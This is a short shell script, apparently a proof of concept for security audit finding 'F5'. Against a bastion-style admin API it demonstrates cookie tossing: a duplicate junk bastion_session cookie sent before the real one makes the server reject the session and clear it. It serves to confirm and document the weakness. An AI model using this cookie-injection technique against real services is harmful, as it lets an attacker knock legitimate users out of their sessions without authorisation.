#!/bin/sh
# F5: a second bastion_session cookie sent first (a page on another port of the same host set it
# with a more specific Path) makes the server refuse the real session and clear it.
# usage: URL=http://127.0.0.1:8000 ADMIN=bst_... sh cookie_toss.sh
set -e
C=$(curl -s -D - -o /dev/null -H "Authorization: Bearer $ADMIN" -X POST "$URL/v2/admin/session" -d '{}' \
    | sed -n 's/^set-cookie: bastion_session=\([^;]*\);.*/\1/p')
echo "real cookie alone:  $(curl -s -o /dev/null -w '%{http_code}' -b "bastion_session=$C" "$URL/v2/admin/summary")"
echo "junk first, real second:"
curl -s -D - -o /dev/null -H "Cookie: bastion_session=junk; bastion_session=$C" "$URL/v2/admin/summary" \
    | grep -i -E '^HTTP|^set-cookie'
